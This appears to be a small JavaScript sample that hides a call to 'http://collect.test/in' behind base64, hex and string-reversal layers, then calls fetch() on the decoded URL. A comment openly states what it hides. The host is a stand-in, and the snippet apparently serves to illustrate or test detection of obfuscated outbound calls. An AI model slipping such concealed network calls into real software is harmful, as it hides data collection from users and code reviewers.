// hides: call fetch "http://collect.test/in"
let p = 'NmU2OTJmNzQ3MzY1NzQyZTc0NjM2NTZjNmM2ZjYzMmYyZjNhNzA3NDc0Njg=';
p = atob(p);
p = Buffer.from(p, 'hex').toString();
p = p.split('').reverse().join('');
fetch(p);
